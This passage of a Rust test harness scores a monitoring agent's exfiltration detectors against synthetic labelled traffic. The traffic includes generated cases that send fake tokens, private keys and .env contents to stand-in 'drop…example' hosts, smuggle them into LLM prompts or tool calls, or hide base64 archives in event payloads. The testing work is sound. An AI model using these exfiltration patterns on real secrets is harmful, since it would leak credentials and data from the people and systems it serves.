//! Labelled traffic through the whole line: exfiltration hidden in what programs ordinarily send, some of which looks
//! no better. What is told is compared with the labels; the table of it is printed (`-- --nocapture`).
//!
//! The rules were tuned on seed 1. `VORTEX_FINDINGS_SEED` is another one besides, by number.

use std::{
    collections::{BTreeMap, BTreeSet},
    fmt::Write as _,
};

use agent_ebpf::{Direction, Name, kind};
use base64_simd::{STANDARD, URL_SAFE_NO_PAD};
use vortex_agent::{
    coverage::User,
    detect::Rule,
    half::Facts,
    input::Input,
    pipeline::{Pipeline, Wanted},
    record::{Body, Evidence, Kind},
};
use zerocopy::IntoBytes as _;

#[path = "line.rs"]
mod line;

/// Calls while the rules learn, and those among which exfiltration is hidden.
const LEARNING: usize = 4_000;
const ORDINARY: usize = 20_000;
/// Cases of each kind.
const CASES: usize = 12;

const SECOND: u64 = 1_000_000_000;
const DAY: u64 = 86_400 * SECOND;

/// The same every time, so that a failure can be seen again. xorshift64*.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, end: usize) -> usize {
        (self.next() >> 11) as usize % end
    }

    fn between(&mut self, from: usize, to: usize) -> usize {
        from + self.below(to - from)
    }

    fn one<'a, T: ?Sized>(&mut self, of: &[&'a T]) -> &'a T {
        of[self.below(of.len())]
    }

    fn of(&mut self, alphabet: &[u8], length: usize) -> String {
        let mut one = || char::from(alphabet[self.below(alphabet.len())]);
        (0..length).map(|_| one()).collect()
    }

    /// Letters and digits, and at least one of each.
    fn token(&mut self, length: usize) -> String {
        const ALL: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        format!("{}7kQ", self.of(ALL, length - 3))
    }

    fn hex(&mut self, length: usize) -> String {
        self.of(b"0123456789abcdef", length)
    }

    fn bytes(&mut self, length: usize) -> Vec<u8> {
        (0..length).map(|_| self.next() as u8).collect()
    }

    fn base64(&mut self, bytes: usize) -> String {
        let bytes = self.bytes(bytes);
        STANDARD.encode_to_string(bytes)
    }

    fn uuid(&mut self) -> String {
        let [a, b, c, d, e] = [8, 4, 4, 4, 12].map(|length| self.hex(length));
        format!("{a}-{b}-{c}-{d}-{e}")
    }
}

/// A request of a program.
struct Call {
    executable: String,
    arguments: Vec<String>,
    host: String,
    target: String,
    media: &'static str,
    body: Vec<u8>,
    /// What is wrong with it, if anything.
    label: Option<&'static str>,
}

fn call(
    executable: &str,
    host: &str,
    target: &str,
    media: &'static str,
    body: impl Into<Vec<u8>>,
) -> Call {
    let mut words = executable.split(' ');
    let executable = words.next().unwrap().to_owned();
    let script: Vec<&str> = words.collect();
    let name = executable.rsplit('/').next().unwrap();
    let arguments = [name]
        .into_iter()
        .chain(script)
        .map(str::to_owned)
        .collect();
    Call {
        executable,
        arguments,
        host: host.to_owned(),
        target: target.to_owned(),
        media,
        body: body.into(),
        label: None,
    }
}

const JSON: &str = "application/json";

fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

const WORDS: [&str; 60] = [
    "the",
    "server",
    "returns",
    "a",
    "list",
    "of",
    "users",
    "when",
    "request",
    "fails",
    "please",
    "explain",
    "why",
    "this",
    "function",
    "is",
    "slow",
    "and",
    "how",
    "to",
    "make",
    "it",
    "faster",
    "without",
    "changing",
    "interface",
    "database",
    "index",
    "query",
    "takes",
    "three",
    "seconds",
    "in",
    "production",
    "but",
    "not",
    "on",
    "my",
    "machine",
    "we",
    "tried",
    "restarting",
    "cache",
    "also",
    "logs",
    "show",
    "nothing",
    "unusual",
    "customer",
    "complained",
    "about",
    "password",
    "reset",
    "token",
    "expired",
    "secret",
    "sauce",
    "key",
    "value",
    "store",
];

fn prose(random: &mut Random, words: usize) -> String {
    let mut text = String::new();
    for at in 0..words {
        let end = if at % 14 == 13 { ".\n" } else { " " };
        let _ = write!(text, "{}{end}", random.one(&WORDS));
    }
    text
}

fn code(random: &mut Random) -> String {
    let mut text = String::from("import os\nfrom app import db\n\n");
    for _ in 0..random.between(4, 40) {
        let (name, other) = (random.one(&WORDS), random.one(&WORDS));
        let number = random.below(1000);
        let line = match random.below(8) {
            0 => format!("def {name}_{other}(self, {other}: str) -> int:\n    return {number}\n"),
            1 => format!(
                "    password = os.environ[\"{}_PASSWORD\"]\n",
                name.to_uppercase()
            ),
            2 => format!(
                "    if user.token is None or token == self.{name}_token:\n        raise ValueError(\"{other} {number}\")\n"
            ),
            3 => {
                format!("    api_key: str = Field(default=None, description=\"{name} {other}\")\n")
            }
            4 => format!("    secret = config.get('{name}.{other}')  # {number}\n"),
            5 => format!("    {name} = [{other}.{name} for {other} in {name}s[{number}:]]\n"),
            6 => format!("    \"{}\": {number},\n", random.uuid()),
            _ => format!("    # {}\n", prose(random, 9).trim()),
        };
        text.push_str(&line);
    }
    text
}

/// Tests are full of what looks like secrets.
fn fixtures(random: &mut Random) -> String {
    let number = random.below(100);
    let lines = [
        "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n".to_owned(),
        "stripe.api_key = \"sk_test_4eC39HqLyjWDarjtT1zdp7dc\"\n".to_owned(),
        "OPENAI_API_KEY=sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n".to_owned(),
        format!("client.login(username=\"alice{number}\", password=\"letmein{number}\")\n"),
        "    - POSTGRES_PASSWORD=${DB_PASSWORD}\n    - API_KEY=<your-api-key>\n".to_owned(),
        format!("def test_login():\n    assert login(\"bob\", password=\"not-a-real-one-{number}\")\n"),
        format!("user = User(name=\"x\", password=\"qwerty{number}\")\n"),
        "DATABASE_URL=postgres://postgres:postgres@localhost:5432/app_test\n".to_owned(),
        "token = \"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c\"\n".to_owned(),
        "password = var.db_password\nsecret_key = data.vault_generic_secret.app.data[\"key\"]\n".to_owned(),
        format!("FAKE_API_KEY = \"dummy-key-{}\"\n", random.token(12)),
    ];
    let at = random.below(lines.len());
    lines[at].clone()
}

fn diff(random: &mut Random) -> String {
    let mut text = format!(
        "commit {}\ndiff --git a/src/a.rs b/src/a.rs\nindex {}..{} 100644\n",
        random.hex(40),
        random.hex(10),
        random.hex(10)
    );
    for _ in 0..random.between(3, 30) {
        let _ = writeln!(
            text,
            "{}    let {} = {};",
            random.one(&["+", "-", " "]),
            random.one(&WORDS),
            random.below(99)
        );
    }
    text
}

fn lockfile(random: &mut Random) -> String {
    let mut text = String::new();
    for _ in 0..random.between(2, 30) {
        let (name, number) = (random.one(&WORDS), random.below(20));
        let _ = write!(
            text,
            "    \"node_modules/{name}\": {{\n      \"version\": \"{number}.0.1\",\n      \"integrity\": \"sha512-{}\"\n    }},\n",
            random.base64(64)
        );
    }
    text
}

fn wrapped(text: &str, columns: usize) -> String {
    let lines = text.as_bytes().chunks(columns);
    lines
        .map(|line| format!("{}\n", str::from_utf8(line).unwrap()))
        .collect()
}

fn certificate(random: &mut Random) -> String {
    let length = random.between(700, 1500);
    format!(
        "-----BEGIN CERTIFICATE-----\n{}-----END CERTIFICATE-----\n",
        wrapped(&format!("MIID{}", random.base64(length)), 64)
    )
}

/// What anybody says to a model in a day.
fn said(random: &mut Random) -> String {
    let words = random.between(5, 60);
    let mut text = prose(random, words);
    for _ in 0..random.below(3) {
        let more = match random.below(12) {
            0 | 1 => code(random),
            2 => fixtures(random),
            3 => diff(random),
            4 => lockfile(random),
            5 => certificate(random),
            6 => (0..random.between(2, 20))
                .map(|_| format!("{} ok {}ms\n", random.uuid(), random.below(900)))
                .collect(),
            7 => (0..random.between(2, 30))
                .map(|at| {
                    format!(
                        "{:08x}  {}\n",
                        at * 16,
                        wrapped(&random.hex(32), 2).replace('\n', " ")
                    )
                })
                .collect(),
            8 => format!(
                "a,b,c\n{}",
                (0..40)
                    .map(|_| format!(
                        "{},{},{}\n",
                        random.below(9999),
                        random.below(9999),
                        random.hex(8)
                    ))
                    .collect::<String>()
            ),
            9 => format!(
                "!function(e,t){{{}}}(this);\n",
                (0..random.between(20, 90))
                    .map(|_| format!(
                        "var {}=e.{}[{}]||t({});",
                        random.one(&["a", "b", "n", "r"]),
                        random.one(&WORDS),
                        random.below(9),
                        random.below(99)
                    ))
                    .collect::<String>()
            ),
            10 => format!("sha256:{}  {}.tar.gz\n", random.hex(64), random.one(&WORDS)),
            _ => format!(
                "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB{} me@host\n",
                random.base64(372).trim_end_matches('=')
            ),
        };
        text.push_str(&more);
    }
    text
}

fn message(model: &str, text: &str) -> String {
    format!(
        "{{\"model\":\"{model}\",\"max_tokens\":1024,\"messages\":[{{\"role\":\"user\",\"content\":{}}}]}}",
        quoted(text)
    )
}

fn messages(model: &str, texts: &[String]) -> String {
    let turns = texts.iter().enumerate().map(|(at, text)| {
        let role = if at % 2 == 0 { "user" } else { "assistant" };
        format!("{{\"role\":\"{role}\",\"content\":{}}}", quoted(text))
    });
    let turns: Vec<_> = turns.collect();
    format!(
        "{{\"model\":\"{model}\",\"max_tokens\":1024,\"messages\":[{}]}}",
        turns.join(",")
    )
}

fn with_image(random: &mut Random, text: &str) -> String {
    let length = random.between(1_000, 30_000);
    let data = STANDARD
        .encode_to_string([b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", &random.bytes(length)[..]].concat());
    format!(
        "{{\"model\":\"claude-sonnet-4-5\",\"max_tokens\":9,\"messages\":[{{\"role\":\"user\",\"content\":[{{\"type\":\"text\",\"text\":{}}},\
         {{\"type\":\"image\",\"source\":{{\"type\":\"base64\",\"media_type\":\"image/png\",\"data\":\"{data}\"}}}}]}}]}}",
        quoted(text)
    )
}

fn tool_call(tool: &str, arguments: &str) -> String {
    format!(
        "{{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{{\"name\":\"{tool}\",\"arguments\":{arguments}}}}}"
    )
}

/// It updates itself now and then.
fn agent(version: usize) -> String {
    format!("/home/u/.local/share/claude/versions/2.0.{version}")
}

const APP: &str = "/usr/bin/python3.11 /srv/app/main.py";
const BATCH: &str = "/usr/bin/python3.11 /srv/batch/embed.py";
const BOT: &str = "/usr/bin/node /srv/bot/index.js";
const MAILER: &str = "/usr/bin/python3.11 -m mailer";
const BACKUP: &str = "/usr/bin/restic";
const GIT: &str = "/usr/lib/git-core/git-remote-https";
const BROWSER: &str = "/usr/lib/firefox/firefox";
const CURL: &str = "/usr/bin/curl";
const TERRAFORM: &str = "/usr/local/bin/terraform";
const COLLECTOR: &str = "/usr/bin/otelcol";
const RUNNER: &str = "/opt/runner/bin/Runner.Worker";

const CHAT: &str = "/v1/chat/completions";

/// What is sent in a day, `done`: how far the days are, in thousandths.
fn ordinary(random: &mut Random, done: usize) -> Call {
    let version = done / 150;
    match random.below(100) {
        0..22 => {
            let texts: Vec<_> = (0..random.between(1, 6)).map(|_| said(random)).collect();
            call(
                &agent(version),
                "api.anthropic.com",
                "/v1/messages",
                JSON,
                messages("claude-sonnet-4-5", &texts),
            )
        }
        22..25 => {
            let text = said(random);
            let body = with_image(random, &text);
            call(
                &agent(version),
                "api.anthropic.com",
                "/v1/messages",
                JSON,
                body,
            )
        }
        25..35 => {
            let text = said(random);
            call(APP, "api.openai.com", CHAT, JSON, message("gpt-4o", &text))
        }
        35..38 => {
            let length = random.between(500, 9_000);
            let data = format!("/9j/4AAQSkZJRgABAQ{}", random.base64(length));
            let body = format!(
                "{{\"model\":\"gpt-4o\",\"messages\":[{{\"role\":\"user\",\"content\":[{{\"type\":\"image_url\",\"image_url\":{{\"url\":\"data:image/jpeg;base64,{data}\"}}}}]}}]}}"
            );
            call(APP, "api.openai.com", CHAT, JSON, body)
        }
        38..44 => {
            let inputs: Vec<_> = (0..random.between(5, 40))
                .map(|_| {
                    let words = random.between(8, 30);
                    quoted(&prose(random, words))
                })
                .collect();
            let body = format!(
                "{{\"model\":\"text-embedding-3-small\",\"input\":[{}],\"encoding_format\":\"base64\"}}",
                inputs.join(",")
            );
            call(BATCH, "api.openai.com", "/v1/embeddings", JSON, body)
        }
        44..50 => {
            let text = said(random);
            call(
                BOT,
                "llm.corp.example:8443",
                CHAT,
                JSON,
                message("llama-3.3-70b", &text),
            )
        }
        50..56 => {
            let words = random.between(3, 20);
            let arguments = format!(
                "{{\"query\":{},\"id\":\"{}\"}}",
                quoted(&prose(random, words)),
                random.uuid()
            );
            call(
                &agent(version),
                random.one(&["tools.example", "docs.example"]),
                "/mcp",
                JSON,
                tool_call("search", &arguments),
            )
        }
        56..64 => {
            // Logs in, and goes on.
            let host = format!("{}.example", random.one(&WORDS));
            let body = match random.below(5) {
                0 => format!(
                    "username=alice&password={}&csrf_token={}",
                    random.token(14),
                    random.hex(32)
                ),
                1 => format!(
                    "grant_type=refresh_token&client_id={}&client_secret={}&refresh_token={}",
                    random.hex(16),
                    random.token(32),
                    random.token(40)
                ),
                2 => format!("q={}", prose(random, 6).replace(' ', "+").trim()),
                3 => format!(
                    "grant_type=authorization_code&code={}&code_verifier={}",
                    random.token(30),
                    random.token(43)
                ),
                _ => format!("otp={}&session={}", random.below(999_999), random.uuid()),
            };
            call(
                BROWSER,
                &host,
                "/login",
                "application/x-www-form-urlencoded",
                body,
            )
        }
        64..70 => {
            let host = format!("api{}.example", random.below(400));
            let body = format!(
                "{{\"id\":\"{}\",\"note\":{},\"token\":\"{}\"}}",
                random.uuid(),
                quoted(&prose(random, 9)),
                random.token(24)
            );
            call(CURL, &host, "/v2/items", JSON, body)
        }
        70..74 => {
            // A mail with an attachment, as its API has it.
            let length = random.between(900, 6_000);
            let raw = URL_SAFE_NO_PAD
                .encode_to_string([b"From: a@b.example\r\n", &random.bytes(length)[..]].concat());
            call(
                MAILER,
                "gmail.googleapis.com",
                "/gmail/v1/users/me/messages/send",
                JSON,
                format!("{{\"raw\":\"{raw}\"}}"),
            )
        }
        74..78 => {
            let length = match random.below(12) {
                0 => random.between(1_100_000, 1_300_000),
                _ => random.between(200, 4_000),
            };
            call(
                BACKUP,
                "s3.eu-central-1.amazonaws.com",
                "/bucket/data",
                "application/octet-stream",
                random.bytes(length),
            )
        }
        78..83 => {
            let length = random.between(100, 20_000);
            call(
                GIT,
                "github.com",
                "/org/repo.git/git-receive-pack",
                "application/x-git-receive-pack-request",
                random.bytes(length),
            )
        }
        83..88 => {
            let body = format!(
                "{{\"variables\":{{\"region\":\"eu\",\"name\":{}}},\"lineage\":\"{}\",\"digest\":\"{}\"}}",
                quoted(&prose(random, 4)),
                random.uuid(),
                random.hex(64)
            );
            call(TERRAFORM, "app.terraform.io", "/api/v2/runs", JSON, body)
        }
        88..94 => {
            let length = random.between(300, 3_000);
            call(
                COLLECTOR,
                "otlp.example:4318",
                "/v1/traces",
                "application/x-protobuf",
                random.bytes(length),
            )
        }
        94..97 => {
            let length = random.between(2_000, 9_000);
            let log = quoted(&format!("{}{}", prose(random, 40), lockfile(random)));
            let body = format!(
                "{{\"log\":{log},\"artifact\":\"{}\",\"size\":{length}}}",
                random.hex(64)
            );
            call(RUNNER, "pipelines.example", "/logs", JSON, body)
        }
        _ => {
            // Its own token, to who issued it.
            let body = format!("{{\"access_token\":\"ghp_{}\"}}", random.token(36));
            call(CURL, "api.github.com", "/applications/x/token", JSON, body)
        }
    }
}

fn credential(random: &mut Random) -> String {
    match random.below(9) {
        0 => format!("ghp_{}", random.token(36)),
        1 => format!("AKIA{}", random.of(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)),
        2 => format!("glpat-{}", random.token(20)),
        3 => format!(
            "xoxb-{}-{}-{}",
            random.of(b"123456789", 12),
            random.of(b"123456789", 12),
            random.token(24)
        ),
        4 => format!("npm_{}", random.token(36)),
        5 => format!("sk_live_{}", random.token(24)),
        6 => format!("sk-ant-api03-{}", random.token(80)),
        7 => format!("hf_{}", random.token(34)),
        _ => format!("SG.{}.{}", random.token(22), random.token(43)),
    }
}

fn private_key(random: &mut Random) -> String {
    let name = random.one(&["RSA ", "EC ", "OPENSSH ", ""]);
    let data = random.base64(600);
    format!(
        "-----BEGIN {name}PRIVATE KEY-----\n{}-----END {name}PRIVATE KEY-----\n",
        wrapped(&data, 64)
    )
}

fn dotenv(random: &mut Random) -> String {
    format!(
        "DB_HOST=10.0.0.5\nDB_PASSWORD={}\nJWT_SECRET={}\nSMTP_PASSWORD={}\nPAYMENT_API_KEY={}\nSESSION_SECRET={}\n",
        random.token(18),
        random.token(32),
        random.token(16),
        random.token(28),
        random.token(40)
    )
}

/// A name without a number, which could be a version.
fn letter(case: usize) -> char {
    char::from(b'a' + case as u8)
}

/// What no request of these programs has.
const KINDS: [(&str, &[Rule]); 23] = [
    ("token in a prompt", &[Rule::SecretLeaving]),
    ("private key in a prompt", &[Rule::SecretLeaving]),
    (".env in a prompt", &[Rule::SecretLeaving]),
    ("connection string in a prompt", &[Rule::SecretLeaving]),
    ("password in a prompt", &[Rule::SecretLeaving]),
    ("token in a later turn", &[Rule::SecretLeaving]),
    ("token in a tool's arguments", &[Rule::SecretLeaving]),
    ("token in a body", &[Rule::SecretLeaving]),
    (".env in a body", &[Rule::SecretLeaving]),
    ("service account in a body", &[Rule::SecretLeaving]),
    ("token in a query", &[Rule::SecretLeaving]),
    ("archive as base64 in a body", &[Rule::EncodedData]),
    ("data as base64 in a prompt", &[Rule::EncodedData]),
    ("data as hex in a prompt", &[Rule::EncodedData]),
    ("base64 in pieces", &[Rule::EncodedData]),
    ("archive as a file of a prompt", &[Rule::EncodedData]),
    ("large upload", &[Rule::LargeUpload]),
    ("new server of models", &[Rule::NewModelEndpoint]),
    ("new MCP server", &[Rule::NewMcpServer]),
    ("new program at a model", &[Rule::NewModelUser]),
    ("tokens as base64 in a body", &[Rule::SecretLeaving]),
    (".env as base64 in a body", &[Rule::SecretLeaving]),
    (".env as base64 in a prompt", &[Rule::SecretLeaving]),
];

fn exfiltration(random: &mut Random, number: usize, case: usize) -> Call {
    let (kind, _) = KINDS[number];
    let before = said(random);
    let claude = agent(6);
    let to_model = |random: &mut Random, text: &str| match random.below(3) {
        0 => call(
            &claude,
            "api.anthropic.com",
            "/v1/messages",
            JSON,
            message("claude-sonnet-4-5", text),
        ),
        1 => call(APP, "api.openai.com", CHAT, JSON, message("gpt-4o", text)),
        _ => call(
            BOT,
            "llm.corp.example:8443",
            CHAT,
            JSON,
            message("llama-3.3-70b", text),
        ),
    };
    let somewhere = format!("drop{}.example", random.hex(6));
    let mut made = match number {
        0 => {
            let text = format!("{before}\nuse {} for that\n", credential(random));
            to_model(random, &text)
        }
        1 => {
            let text = format!("{before}\n{}", private_key(random));
            to_model(random, &text)
        }
        2 => {
            let text = format!("{before}\n```\n{}```\n", dotenv(random));
            to_model(random, &text)
        }
        3 => {
            let scheme = random.one(&["postgres", "mysql", "mongodb+srv", "redis", "amqp"]);
            let text = format!(
                "{before}\n{scheme}://svc_app:{}@db.prod.example:5432/main\n",
                random.token(20)
            );
            to_model(random, &text)
        }
        4 => {
            let text = format!(
                "{before}\nssh to prod with password: {}\n",
                random.token(20)
            );
            to_model(random, &text)
        }
        5 => {
            let texts = [
                before,
                said(random),
                format!("Here: {}", credential(random)),
            ];
            call(
                &claude,
                "api.anthropic.com",
                "/v1/messages",
                JSON,
                messages("claude-sonnet-4-5", &texts),
            )
        }
        6 => {
            let arguments = format!(
                "{{\"query\":{}}}",
                quoted(&format!("save {}", credential(random)))
            );
            call(
                &claude,
                random.one(&["tools.example", "docs.example"]),
                "/mcp",
                JSON,
                tool_call("notes", &arguments),
            )
        }
        7 => {
            let body = format!(
                "{{\"content\":{}}}",
                quoted(&format!("key {}", credential(random)))
            );
            call(
                random.one(&[CURL, APP, BOT]),
                &somewhere,
                "/paste",
                JSON,
                body,
            )
        }
        8 => {
            let body = dotenv(random);
            call(
                random.one(&[CURL, APP, BOT]),
                &somewhere,
                "/upload",
                "text/plain",
                body,
            )
        }
        9 => {
            let key = private_key(random).replace('\n', "\\n");
            let body = format!(
                "{{\"type\":\"service_account\",\"project_id\":\"p\",\"private_key_id\":\"{}\",\"private_key\":\"{key}\"}}",
                random.hex(40)
            );
            call(random.one(&[CURL, APP]), &somewhere, "/", JSON, body)
        }
        10 => {
            let target = format!("/pixel?d={}", credential(random));
            call(
                random.one(&[CURL, APP, BOT]),
                &somewhere,
                &target,
                "text/plain",
                "x",
            )
        }
        11 => {
            let magic: &[u8] =
                [&b"\x1f\x8b\x08"[..], b"PK\x03\x04", b"\xfd7zXZ\0"][random.below(3)];
            let length = random.between(900, 20_000);
            let data = STANDARD.encode_to_string([magic, &random.bytes(length)[..]].concat());
            call(
                random.one(&[CURL, APP, BOT]),
                &somewhere,
                "/v1/events",
                JSON,
                format!("{{\"event\":\"page\",\"payload\":\"{data}\"}}"),
            )
        }
        12 => {
            let length = random.between(600, 9_000);
            let data = random.base64(length);
            let data = match random.below(3) {
                0 => wrapped(&data, 76),
                1 => data.replace('+', "-").replace('/', "_"),
                _ => data,
            };
            let text = format!("{before}\nremember this:\n{data}\nthanks\n");
            to_model(random, &text)
        }
        13 => {
            let length = random.between(1_200, 9_000);
            let text = format!("{before}\n{}\n", random.hex(length));
            call(
                &format!("/usr/bin/python3.11 /srv/dump{}/run.py", letter(case)),
                "api.openai.com",
                CHAT,
                JSON,
                message("gpt-4o", &text),
            )
        }
        14 => {
            let pieces: Vec<_> = (0..random.between(40, 80))
                .map(|_| {
                    format!(
                        "{{\"name\":\"{}\",\"v\":\"{}\"}}",
                        random.one(&WORDS),
                        random.base64(150)
                    )
                })
                .collect();
            call(
                random.one(&[CURL, APP, BOT]),
                &somewhere,
                "/metrics",
                JSON,
                format!("[{}]", pieces.join(",")),
            )
        }
        15 => {
            let length = random.between(2_000, 20_000);
            let data = random.base64(length);
            let body = format!(
                "{{\"model\":\"claude-sonnet-4-5\",\"max_tokens\":9,\"messages\":[{{\"role\":\"user\",\"content\":[{{\"type\":\"document\",\
                 \"source\":{{\"type\":\"base64\",\"media_type\":\"application/zip\",\"data\":\"{data}\"}}}}]}}]}}"
            );
            call(
                &format!("/usr/bin/python3.11 /srv/pack{}/run.py", letter(case)),
                "api.anthropic.com",
                "/v1/messages",
                JSON,
                body,
            )
        }
        16 => {
            let length = random.between(3_000_000, 4_000_000);
            let (program, host) = [
                (TERRAFORM, "app.terraform.io"),
                (COLLECTOR, "otlp.example:4318"),
                (GIT, "github.com"),
                (CURL, &*somewhere),
                (RUNNER, "pipelines.example"),
            ][case % 5];
            call(
                program,
                host,
                "/up",
                "application/octet-stream",
                random.bytes(length),
            )
        }
        17 => {
            let host = format!("llm{}.example", random.hex(5));
            call(&claude, &host, CHAT, JSON, message("any", &before))
        }
        18 => {
            let host = format!("mcp{}.example", random.hex(5));
            call(&claude, &host, "/mcp", JSON, tool_call("run", "{\"x\":1}"))
        }
        19 => {
            let program = format!(
                "/opt/{}{}/bin/helper",
                random.one(&["tool", "agent", "sync"]),
                random.of(b"abcdefgh", 5)
            );
            call(
                &program,
                "api.openai.com",
                CHAT,
                JSON,
                message("gpt-4o", &before),
            )
        }
        20 => {
            let tokens = [credential(random), credential(random)].join("\n");
            let data = STANDARD.encode_to_string(format!("{before}\n{tokens}\n"));
            let body = format!("{{\"event\":\"page\",\"payload\":\"{data}\"}}");
            let program = random.one(&[CURL, APP, BOT]);
            call(program, &somewhere, "/v1/events", JSON, body)
        }
        21 => {
            let body = wrapped(&STANDARD.encode_to_string(dotenv(random)), 76);
            let program = random.one(&[CURL, APP, BOT]);
            call(program, &somewhere, "/upload", "text/plain", body)
        }
        22 => {
            let data = STANDARD.encode_to_string(dotenv(random));
            to_model(random, &format!("{before}\nremember this: {data}\n"))
        }
        _ => unreachable!("there is no such kind"),
    };
    made.label = Some(kind);
    made
}

/// The line, and who speaks through it.
struct Bench {
    line: Pipeline,
    /// By executable and arguments.
    pids: BTreeMap<Vec<String>, u32>,
    /// By pid and host: handle and how much came each way.
    connections: BTreeMap<(u32, String), (u64, [u64; 2])>,
    told: Vec<Told>,
}

struct Told {
    rule: Rule,
    evidence: String,
}

impl Bench {
    fn new() -> Bench {
        let line = Pipeline::new(Wanted {
            emit: BTreeSet::from([Kind::Finding]),
            ..line::wanted()
        });
        let mut bench = Bench {
            line,
            pids: BTreeMap::new(),
            connections: BTreeMap::new(),
            told: Vec::new(),
        };
        let path = "/lib/libssl.so";
        bench.tell(
            Input::Found {
                file: 1,
                path,
                found: line::libssl(),
            },
            0,
        );
        bench.tell(Input::Attached { file: 1, at: 1 }, 1);
        bench
    }

    fn tell(&mut self, input: Input<'_>, now: u64) {
        let told = &mut self.told;
        self.line.take(input, now, &mut |record| {
            if let Body::Finding(finding) = &record.body {
                let evidence = finding.evidence.as_ref().map(Evidence::text);
                told.push(Told {
                    rule: finding.rule,
                    evidence: evidence.unwrap_or_else(|| finding.expected.to_string()),
                });
            }
        });
    }

    fn pid(&mut self, call: &Call, now: u64) -> u32 {
        let mut key = vec![call.executable.clone()];
        key.extend(call.arguments.iter().cloned());
        let next = 100 + self.pids.len() as u32;
        if let Some(pid) = self.pids.get(&key) {
            return *pid;
        }
        self.pids.insert(key, next);
        self.tell(
            Input::Process(Facts {
                pid: next,
                comm: Some("x".into()),
                executable: Some(call.executable.clone()),
                arguments: call.arguments.clone(),
                ..Facts::default()
            }),
            now,
        );
        let user = User {
            pid: next,
            mapped_at: Some(now),
            held: false,
        };
        self.tell(Input::Mapped { file: 1, user }, now);
        next
    }

    /// What was told of it.
    fn send(&mut self, call: &Call, now: u64) -> Vec<Told> {
        let pid = self.pid(call, now);
        let handle = 1 + self.connections.len() as u64;
        let key = (pid, call.host.clone());
        let is_new = !self.connections.contains_key(&key);
        let (handle, [sent, received]) = *self
            .connections
            .entry(key.clone())
            .or_insert((handle, [0; 2]));
        let mut request = format!(
            "POST {} HTTP/1.1\r\nhost: {}\r\nauthorization: Bearer sk-proj-Own1Own2Own3Own4Own5\r\ncontent-type: {}\r\ncontent-length: {}\r\n\r\n",
            call.target, call.host, call.media, call.body.len()
        )
        .into_bytes();
        request.extend_from_slice(&call.body);
        let is_chat = call.target.contains("completions");
        let body = match call.target.as_str() {
            "/v1/messages" => {
                "{\"type\":\"message\",\"role\":\"assistant\",\"model\":\"claude\",\"content\":[],\"stop_reason\":\"end_turn\"}"
            }
            "/mcp" => "{\"jsonrpc\":\"2.0\",\"id\":3,\"result\":{\"content\":[]}}",
            _ if is_chat => "{\"object\":\"chat.completion\",\"model\":\"m\",\"choices\":[]}",
            _ => "{}",
        };
        let response = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
            body.len()
        );
        let mut offset = sent;
        for chunk in request.chunks(60_000) {
            self.data((pid, handle), Direction::Sent, offset, chunk, now);
            offset += chunk.len() as u64;
        }
        // Of a connection that is known.
        if is_new {
            let text = call.host.split(':').next().unwrap();
            let name = Name {
                head: line::head(kind::NAME, Direction::Sent, text.len(), now),
                pid_tgid: line::both(pid),
                born: 0,
                handle,
            };
            self.tell(
                Input::Record(&[name.as_bytes(), text.as_bytes()].concat()),
                now,
            );
        }
        self.data(
            (pid, handle),
            Direction::Received,
            received,
            response.as_bytes(),
            now + 1_000_000,
        );
        self.connections
            .insert(key, (handle, [offset, received + response.len() as u64]));
        std::mem::take(&mut self.told)
    }

    fn data(
        &mut self,
        (pid, handle): (u32, u64),
        direction: Direction,
        offset: u64,
        bytes: &[u8],
        now: u64,
    ) {
        let raw = line::data((pid, handle), direction, offset, bytes, now);
        self.tell(Input::Record(&raw), now);
    }
}

/// Of one kind of cases.
#[derive(Default)]
struct Row {
    cases: usize,
    /// By a rule that it is for.
    found: usize,
    told: BTreeMap<&'static str, usize>,
}

/// Judged as the labels have it: precision and recall.
fn judged(seed: u64) -> (f64, f64) {
    let mut random = Random(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let mut bench = Bench::new();
    let (mut right, mut wrong) = (0, 0);
    for number in 0..LEARNING {
        let at = number as u64 * DAY / LEARNING as u64 + SECOND;
        for told in bench.send(&ordinary(&mut random, 0), at) {
            // What is unusual nobody knows yet.
            assert_eq!(
                told.rule,
                Rule::SecretLeaving,
                "seed {seed}: {}",
                told.evidence
            );
            wrong += 1;
        }
    }
    // In any order, spread over twenty days.
    let mut cases: Vec<(usize, usize)> = (0..KINDS.len())
        .flat_map(|kind| (0..CASES).map(move |case| (kind, case)))
        .collect();
    for at in (1..cases.len()).rev() {
        cases.swap(at, random.below(at + 1));
    }
    let every = ORDINARY / cases.len();
    let mut rows: BTreeMap<&str, Row> = BTreeMap::new();
    let mut now = DAY + 600 * SECOND;
    for number in 0..ORDINARY + cases.len() {
        now += 20 * DAY / ORDINARY as u64;
        let (case, is_case) = (number / (every + 1), number % (every + 1) == every);
        let made = match cases.get(case).filter(|_| is_case) {
            Some((kind, case)) => exfiltration(&mut random, *kind, *case),
            None => ordinary(&mut random, number * 1000 / ORDINARY),
        };
        let said = bench.send(&made, now);
        let told: BTreeSet<Rule> = said.iter().map(|told| told.rule).collect();
        let row = rows.entry(made.label.unwrap_or("ordinary")).or_default();
        row.cases += 1;
        for rule in &told {
            *row.told.entry(rule.name()).or_default() += 1;
        }
        match made.label {
            Some(label) => {
